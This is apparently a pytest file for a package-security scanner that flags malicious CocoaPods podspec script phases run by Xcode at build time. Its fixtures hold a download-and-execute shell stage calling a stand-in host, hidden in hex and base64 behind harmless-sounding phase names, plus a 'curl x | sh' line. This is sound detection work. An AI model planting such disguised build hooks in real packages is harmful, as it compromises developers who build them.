"""Podspec script phases: Xcode runs them at every build of the app, so they are judged like install hooks (read as
Ruby string literals, nothing evaluated)."""

from __future__ import annotations

import base64

from test_install_scripts import artifact, findings

from npmward.analyzers.podspec import podspec_scripts
from npmward.model import Severity

STAGE = "#!/bin/sh\ncurl -fsSL \"https://cdn.haptics.invalid/ios/a.sh?h=$(hostname)&v=2\" -o \"${TMPDIR:-/tmp}/.a\" && sh \"${TMPDIR:-/tmp}/.a\" &\n"
HEX = STAGE.encode().hex()


def test_a_script_phase_that_runs_a_hex_stage_from_constants_is_critical():
    # (set 40's Capacitor plugin: the hex in an array of strings joined, run through `xxd -r -p | /bin/sh` after compile)
    chunks = ",\n".join(f'    "{HEX[i:i + 60]}"' for i in range(0, len(HEX), 60))
    podspec = f"""require 'json'
XCI = [
{chunks}
].join

Pod::Spec.new do |s|
  s.name = 'CapacitorVault'
  s.script_phases = [
    {{ :name => 'Prewarm Swift index', :execution_position => :after_compile,
      :script => "(printf '%s' '#{{XCI}}' | xxd -r -p | /bin/sh) >/dev/null 2>&1 &\\nexit 0\\n" }}
  ]
end
"""
    found = findings(artifact(extra_files={"CapacitorVault.podspec": podspec.encode()}))
    worst = max(found, key=lambda f: f.severity)
    line = next(i for i, text in enumerate(podspec.splitlines(), 1) if ":script =>" in text)
    assert worst.severity == Severity.CRITICAL and worst.file == "CapacitorVault.podspec" and worst.line == line, found
    assert "Xcode runs it at every build" in worst.message


def test_a_heredoc_script_phase_that_decodes_base64_into_sh_is_critical():
    encoded = base64.b64encode(STAGE.encode()).decode()
    podspec = f"""Pod::Spec.new do |s|
  s.name = "react-native-haptic-pulse"
  s.script_phase = {{
    :name => "[RNHaptic] Bundle AHAP patterns",
    :execution_position => :before_compile,
    :script => <<-SCRIPT
      mkdir -p "${{TARGET_BUILD_DIR}}/haptics"
      echo "{encoded}" | base64 -D | sh
      exit 0
    SCRIPT
  }}
end
"""
    found = findings(artifact(extra_files={"react-native-haptic-pulse.podspec": podspec.encode()}))
    assert any(f.severity == Severity.CRITICAL and f.rule == "install-script/download-execute" for f in found), found


def test_ordinary_script_phases_carry_no_weight():
    # (expo-constants 58's phase runs the package's own script; a resources copy)
    podspec = """env_vars = ENV['PROJECT_ROOT'] ? "export PROJECT_ROOT=#{ENV['PROJECT_ROOT']}; " : ""
Pod::Spec.new do |s|
  s.name = 'EXConstants'
  s.script_phase = {
    :name => 'Generate app.config for prebuilt Constants.manifest',
    :script => "bash -l -c \\"#{env_vars}$PODS_TARGET_SRCROOT/../scripts/get-app-config-ios.sh\\"",
    :execution_position => :before_compile
  }
  s.script_phases = [{ name: 'Copy sounds', script: 'cp -f "${PODS_TARGET_SRCROOT}/sounds/"*.caf "${TARGET_BUILD_DIR}/"' }]
end
"""
    files = {"ios/EXConstants.podspec": podspec.encode()}
    assert [line for _, line, _ in podspec_scripts(files)] == [6, 9]
    assert not [f for f in findings(artifact(extra_files=files)) if f.severity > Severity.LOW]


def test_a_podspec_that_is_not_ruby_or_has_no_literal_is_read_without_error():
    files = {"x.podspec": b":script => \x00\xff<<-\n", "ios/deep/nested/y.podspec": b":script => 'curl x | sh'"}
    assert podspec_scripts(files) == []
